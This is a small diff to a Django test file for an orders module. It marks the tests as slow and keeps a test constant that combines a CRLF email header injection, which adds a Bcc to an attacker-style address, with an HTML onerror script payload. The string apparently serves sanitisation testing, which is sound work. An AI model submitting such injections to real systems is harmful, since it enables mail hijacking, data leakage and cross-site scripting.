@@ -11,7 +11,8 @@ from modules.orders import public
 from modules.orders.models.orders import Line, Part
 from tests.orders.shop import goods, order_body, supplier
 
-pytestmark = pytest.mark.django_db(transaction=True)
+# What it costs is drawn, sent or waited for: once in each run of everything is enough.
+pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.slow]
 NASTY = "Чай\r\nBcc: thief@evil.example\n\nИтого: 0.00 RUB <img src=x onerror=alert(1)>"
 
 
